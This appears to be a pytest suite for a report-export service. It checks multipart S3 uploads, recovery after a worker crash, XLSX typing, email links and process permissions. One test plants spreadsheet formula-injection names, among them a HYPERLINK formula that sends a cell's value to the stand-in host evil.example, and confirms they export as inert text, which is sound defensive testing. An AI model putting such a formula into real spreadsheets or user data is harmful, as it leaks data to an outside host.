"""The export itself: parts of at least 5 MiB in one multipart upload, resuming after a killed worker, exact
rows, formula injection, XLSX types, the ready email, and only reports' own processes export anything."""

from __future__ import annotations

import io
from datetime import datetime

import pytest
from numbers_report import BASE, expected_row
from report_support import csv_rows, object_bytes, run_to_end

from conveyor.reports import storage

MIB = 1024 * 1024


def _request(api, body):
    created = api.post("/v1/reports", body)
    assert created.status == 202, created.body
    return created.json()["id"]


def _report(api, report_id):
    return api.get(f"/v1/reports/{report_id}").json()


def _context(api_as, report):
    process = api_as("tenant-a", "processes:read").get(f"/v1/processes/{report['process_id']}").json()
    return process, process["context"]


def test_a_250000_row_csv_report_completes_in_parts_of_at_least_5_mib_and_parses_back_exactly(
    reports_api, api_as, stack
):
    # Given 250,000 rows selected out of 500,000 by a filter, about 23 MB of CSV (quotes to escape in every row)
    name = 'a description, "quoted"'
    report_id = _request(
        reports_api, {"type": "test.numbers", "filters": {"count": 500_000, "multiple_of": 2, "name": name}}
    )

    # When it runs to the end
    stack.drain()

    # Then it is ready with the exact row count, made of parts of >= 5 MiB each but the last, in one upload
    report = _report(reports_api, report_id)
    assert report["state"] == "ready" and report["rows"] == 250_000
    process, context = _context(api_as, report)
    sizes = [size for _, _, size in context["parts"]]
    assert len(sizes) >= 3 and all(size >= 5 * MIB for size in sizes[:-1]) and sizes[-1] > 0
    assert sum(rows for _, rows, _ in context["parts"]) == 250_000
    assert process["state"] == "completed" and process["counts"]["succeeded"] == 250_000
    assert process["expected_total"] == 250_000 and process["batches"]["total"] == len(sizes)
    # and the object parses back to exactly the rows and values the filter selects, in order
    data = object_bytes(stack, f"reports/{report_id}.csv")
    assert len(data) == sum(sizes) == report["size_bytes"]
    rows = csv_rows(data)
    assert rows[0] == ["n", "name", "at", "amount", "even"]
    assert len(rows) == 250_001
    for i in (0, 1, 12_345, 124_999, 249_999):
        n, text, at, amount, even = expected_row(i * 2, name)
        assert rows[i + 1] == [str(n), text, at.strftime("%Y-%m-%d %H:%M:%S"), repr(amount), "true"]
    assert [int(r[0]) for r in rows[1:]] == list(range(0, 500_000, 2))


@pytest.mark.parametrize("kill", ["after-part-2-uploaded-before-saved", "while-building-part-3"])
def test_a_worker_killed_mid_report_resumes_without_duplicated_or_missing_rows_or_a_second_upload(
    reports_api, api_as, stack, aws_calls, monkeypatch, kill
):
    # Given a report of 4 parts whose worker dies once: right after part 2 reached S3 (its ETag not yet saved),
    # or while part 3 is being built
    creates: list[str] = []
    uploads: list[int] = []
    real_create, real_upload, real_build = storage.create_upload, storage.upload_part, None
    killed = []

    def create(*args, **kw):
        creates.append(args[1])
        return real_create(*args, **kw)

    def upload(bucket, key, upload_id, number, body):
        uploads.append(number)
        etag = real_upload(bucket, key, upload_id, number, body)
        if kill == "after-part-2-uploaded-before-saved" and number == 2 and not killed:
            killed.append(number)
            raise RuntimeError("worker killed")
        return etag

    from conveyor.reports import jobs as report_jobs

    real_build = report_jobs._build_part

    def build(report, kind, cursor, n, ctx):
        if kill == "while-building-part-3" and n == 3 and not killed:
            killed.append(n)
            raise RuntimeError("worker killed")
        return real_build(report, kind, cursor, n, ctx)

    monkeypatch.setattr(storage, "create_upload", create)
    monkeypatch.setattr(storage, "upload_part", upload)
    monkeypatch.setattr(report_jobs, "_build_part", build)
    monkeypatch.setattr(storage, "PART_BYTES", storage.S3_MIN_PART_BYTES)  # S3's minimum: 4 parts from ~17 MiB
    name = "x" * 500
    report_id = _request(reports_api, {"type": "test.numbers", "filters": {"count": 32_000, "name": name}})

    # When the killed part's job is retried
    run_to_end(stack, aws_calls)

    # Then the report is whole: one upload, each part in it once, every row exactly once
    report = _report(reports_api, report_id)
    assert killed and report["state"] == "ready", report
    assert len(creates) == 1
    _, context = _context(api_as, report)
    assert len(context["parts"]) >= 4
    expected_uploads = sorted([*range(1, len(context["parts"]) + 1), *([2] if killed == [2] else [])])
    assert sorted(uploads) == expected_uploads
    rows = csv_rows(object_bytes(stack, f"reports/{report_id}.csv"))
    assert [int(r[0]) for r in rows[1:]] == list(range(32_000))
    assert report["rows"] == 32_000


def _put_contact(api, contact_id, name):
    body = {"name": name, "timezone": "Europe/London", "channels": ["email"], "email": f"{contact_id}@example.com"}
    assert api.request("PUT", f"/v1/contacts/{contact_id}", body).status in (200, 201)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_formula_in_a_contact_name_comes_out_as_text(reports_api, api_as, stack, fmt):
    from openpyxl import load_workbook

    # Given contacts whose names a spreadsheet would run as formulas
    writer = api_as("tenant-a", "reminders:read,reminders:write")
    names = {"c1": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "c2": "+1-555", "c3": "@SUM(A1)", "c4": "Ada"}
    for contact_id, name in names.items():
        _put_contact(writer, contact_id, name)

    # When they are exported
    report_id = _request(reports_api, {"type": "contacts", "format": fmt})
    stack.drain()
    report = _report(reports_api, report_id)
    data = object_bytes(stack, f"reports/{report_id}.{fmt}")

    # Then every such name is text, prefixed with a quote (OWASP), the others untouched
    if fmt == "csv":
        got = {r[0]: r[1] for r in csv_rows(data)[1:]}
    else:
        sheet = load_workbook(io.BytesIO(data)).active
        cells = list(sheet.iter_rows(min_row=2))
        assert all(c[1].data_type == "s" for c in cells)  # a string cell, never a formula
        got = {c[0].value: c[1].value for c in cells}
    assert report["rows"] == 4
    assert got == {
        "c1": "'" + names["c1"],
        "c2": "'+1-555",
        "c3": "'@SUM(A1)",
        "c4": "Ada",
    }


def test_an_xlsx_report_opens_with_openpyxl_with_its_header_and_typed_dates_and_numbers(reports_api, stack):
    from openpyxl import load_workbook

    report_id = _request(
        reports_api,
        {"type": "test.numbers", "format": "xlsx", "filters": {"count": 300}, "timezone": "America/New_York"},
    )
    stack.drain()
    report = _report(reports_api, report_id)
    assert report["state"] == "ready" and report["filename"].endswith(".xlsx")

    sheet = load_workbook(io.BytesIO(object_bytes(stack, f"reports/{report_id}.xlsx"))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("n", "name", "at", "amount", "even")
    assert len(rows) == 301 and report["rows"] == 300
    n, name, at, amount, even = rows[8]
    assert (n, name, amount, even) == (7, "row 7", 10.5, False)
    assert isinstance(n, int) and isinstance(amount, float)
    # a real date-time cell, in the report's zone (New York is UTC-5 in January)
    assert at == datetime(2025, 12, 31, 19, 0, 7) and BASE.hour == 0
    assert sheet.cell(row=9, column=3).is_date


def test_the_ready_email_links_to_the_download_route_never_a_presigned_url(reports_api, stack, sent_emails):
    # Given a report requested through the API's own address (no PublicApiUrl: the template's default)
    body = {"type": "test.numbers", "filters": {"count": 10}, "notify_email": "ops@example.com"}
    created = reports_api.post("/v1/reports", body, headers={"host": "abc123.execute-api.eu-west-1.amazonaws.com"})
    assert created.status == 202, created.body
    report_id = created.json()["id"]
    stack.drain()

    # Then its email links to the dashboard's download route at that address
    [email] = [m for m in sent_emails() if "ops@example.com" in m.destinations.get("ToAddresses", [])]
    body = str(email.body)
    assert f"https://abc123.execute-api.eu-west-1.amazonaws.com/dashboard/reports/{report_id}/download" in body
    assert "X-Amz-Signature" not in body and "Signature=" not in body
    assert _report(reports_api, report_id)["state"] == "ready"


def test_a_jobs_report_holds_exactly_the_jobs_its_filters_select(reports_api, api, stack):
    # Given jobs of two types
    for n in range(5):
        body = {"type": "email.send", "payload": {"to": [f"u{n}@example.com"], "subject": "s", "text": "t"}}
        assert api.post("/v1/jobs", body).status == 202
    stack.drain()

    report_id = _request(reports_api, {"type": "jobs", "filters": {"type": "email.send", "state": "completed"}})
    stack.drain()

    report = _report(reports_api, report_id)
    rows = csv_rows(object_bytes(stack, f"reports/{report_id}.csv"))
    assert rows[0][:4] == ["job_id", "type", "queue", "state"]
    assert report["rows"] == 5 and len(rows) == 6
    assert {r[1] for r in rows[1:]} == {"email.send"} and {r[3] for r in rows[1:]} == {"completed"}
    assert rows[1][0] < rows[5][0]  # oldest first


def test_a_process_of_the_export_type_started_directly_exports_nothing(api_as, stack, aws_calls):
    processes_api = api_as("tenant-a", "processes:read,processes:write")
    started = processes_api.post("/v1/processes", {"type": "reports.export", "params": {"report_id": "rpt_nope"}})
    assert started.status == 202

    run_to_end(stack, aws_calls)

    process = processes_api.get(f"/v1/processes/{started.json()['id']}").json()
    assert process["state"] == "failed" and "POST /v1/reports" in process["error"]
    assert stack.client("s3").list_objects_v2(Bucket=stack.template.physical["ReportsBucket"]).get("KeyCount", 0) == 0


def test_an_xlsx_report_whose_worker_died_after_completing_the_upload_finishes_without_rewriting_it(
    reports_api, stack, aws_calls, monkeypatch
):
    from conveyor.reports import service

    uploads: list[int] = []
    real_upload, real_finish = storage.upload_part, service.finish
    crashed: list[bool] = []

    def upload(bucket, key, upload_id, number, body):
        uploads.append(number)
        return real_upload(bucket, key, upload_id, number, body)

    def finish(*args, **kw):
        real_finish(*args, **kw)
        if not crashed:
            crashed.append(True)
            raise RuntimeError("worker killed after the upload was completed")

    monkeypatch.setattr(storage, "upload_part", upload)
    monkeypatch.setattr(service, "finish", finish)
    report_id = _request(reports_api, {"type": "test.numbers", "format": "xlsx", "filters": {"count": 50}})

    run_to_end(stack, aws_calls)

    report = _report(reports_api, report_id)
    assert crashed and report["state"] == "ready" and report["rows"] == 50
    assert uploads == [1]  # the retry finished the report from its saved parts: nothing written twice
